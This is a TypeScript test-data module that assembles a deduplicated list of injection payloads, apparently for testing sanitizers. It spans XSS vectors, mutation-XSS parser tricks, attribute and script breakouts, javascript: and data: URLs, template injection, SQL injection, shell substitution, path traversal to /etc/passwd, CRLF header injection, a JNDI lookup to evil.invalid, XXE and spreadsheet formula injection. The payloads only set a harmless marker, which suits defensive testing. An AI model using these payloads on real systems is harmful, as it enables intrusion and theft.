// Harmful texts, by their technique. Code that runs sets `window.__ran`; every injected element has
// the attribute `evil`, so that one that cannot run is found as well.

const run = '__ran=1';

const elements = [
  `<script evil>${run}</script>`,
  `<img evil src=x onerror=${run}>`,
  `<svg evil onload=${run}>`,
  `<svg evil><script>${run}</script></svg>`,
  `<iframe evil srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<input evil autofocus onfocus=${run}>`,
  `<details evil open ontoggle=${run}>`,
  `<body evil onload=${run}>`,
  `<video evil><source onerror=${run}></video>`,
  `<audio evil src=x onerror=${run}>`,
  `<object evil data="javascript:${run}"></object>`,
  `<embed evil src="javascript:${run}">`,
  `<marquee evil onstart=${run}>`,
  `<a evil href="javascript:${run}">x</a>`,
  `<form evil action="javascript:${run}"><button>x</button></form>`,
  `<button evil formaction="javascript:${run}" form=x>x</button>`,
  `<meta evil http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base evil href="//evil.invalid/">`,
  `<link evil rel=stylesheet href="data:text/css,*{display:none}">`,
  `<style evil onload=${run}></style>`,
  `<select evil autofocus onfocus=${run}></select>`,
  `<textarea evil autofocus onfocus=${run}></textarea>`,
  `<p evil onanimationstart=${run} style="animation:x 1s">x</p>`,
  `<div evil onpointerover=${run} style="position:fixed;inset:0">x</div>`,
  `<template evil><script>${run}</script></template>`,
  `<x evil tabindex=1 autofocus onfocus=${run}>`,
  `<dialog evil open oncancel=${run}>x</dialog>`,
  `<frameset evil onload=${run}>`,
  `<bgsound evil src="javascript:${run}">`,
  `<isindex evil type=image src=1 onerror=${run}>`,
];

const breakouts = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '</script>',
  '</SCRIPT >',
  '</script\n>',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</select>',
  '</template>',
  '</svg>',
  '<!--<script>',
  '<![CDATA[',
  '\\u003c/script\\u003e',
  '"};</script>',
  "');</script>",
  '\u2028</script>',
  '\u2029-->',
  '<a "',
];

const cores = [`<img evil src=x onerror=${run}>`, `<script evil>${run}</script>`, `<svg/evil/onload=${run}>`];

const attributes = ['"', "'", '`', '" ', "' ", '"\n', '\\"', '&quot;'].flatMap((quote) => [
  `x${quote} evil autofocus onfocus=${run} x=${quote}`,
  `x${quote} evil style=animation:x onanimationend=${run} x=${quote}`,
]);

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript://%0a${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script evil>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${run} xmlns="http://www.w3.org/2000/svg"/>`,
  '//evil.invalid/x.js',
  '/\\evil.invalid',
  'https:evil.invalid',
  'https://evil.invalid@x',
  'blob:https://evil.invalid/1',
  'file:///etc/passwd',
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% raw %}${run}{% endraw %}`,
  `[[${run}]]`,
  `{name}`,
  `{count, plural, other {${run}}}`,
  `<b>bold</b> {0} '{'`,
  `%s %d %n %x`,
  `$& $1 $\` $' $$`,
  `\\u003cscript evil\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cimg evil src=x onerror=${run}\\x3e`,
  `&lt;img evil src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `%3Cimg%20evil%20src=x%20onerror=${run}%3E`,
  `\\";${run};//`,
  `';${run};//`,
  `*/${run}/*`,
  `\n${run}\n//`,
];

const marks = [
  '\u202egnp.exe\u202c',
  '\u202dabc',
  '\u2066abc',
  '\u2067abc\u2069\u2069\u2069',
  '\u2068\u202b\u202a x',
  '\u200f\u200e\u061c x',
  '\ufeff\u200b\u200c\u200d x',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f'.repeat(3),
  '\u0634\u064b\u064c\u064d\u064e\u064f'.repeat(4),
  '\uff1cscript evil\uff1e__ran=1\uff1c/script\uff1e',
  '\u02b9\u02ba\u2018\u201c<\u0338img>',
  '\ufdfd\ufdfd\ufdfd',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3ff}',
  '\u{e0001}\u{e0041}\u{e007f} x',
  'x'.repeat(300),
];

const otherLanguages = [
  `=HYPERLINK("javascript:${run}")`,
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  "'; drop table products; --",
  "' or 1=1 --",
  '"; select pg_sleep(9); --',
  "%' _ \\ %",
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":1}}',
  '$(touch /tmp/evil) `id` | id',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\r\nSet-Cookie: evil=1\r\n\r\n<script evil>',
  'x\r\nBcc: evil@example.invalid',
  '${jndi:ldap://evil.invalid/x}',
  '<?php echo 1; ?>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
];

// A parser that decodes a second time can be misled by what is split in between.
const torn = [
  `<noscript><p title="</noscript><img evil src=x onerror=${run}>">`,
  `<svg><style><img evil src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img evil src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img evil src=x onerror=${run}>`,
  `<table><td><a evil href="javascript:${run}">`,
  `<scr<script>ipt evil>${run}</scr</script>ipt>`,
  `<<script evil>${run}//<</script>`,
  `<img evil src=x onerror\n=\n${run}//`,
  `<img/evil/src=x/onerror=${run}//`,
  `<svg><a evil><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  `<svg><use evil href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<template shadowrootmode=open><img evil src=x onerror=${run}></template>`,
];

/** At least 200 harmful texts, each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...elements,
    ...breakouts.flatMap((breakout) => cores.map((core) => breakout + core)),
    ...attributes,
    ...addresses,
    ...templates,
    ...marks,
    ...otherLanguages,
    ...torn,
  ]),
];

/** That many payloads, evenly from all families. */
export function somePayloads(count: number): string[] {
  return Array.from({ length: count }, (_, index) => payloads[Math.floor((index * payloads.length) / count)] as string);
}
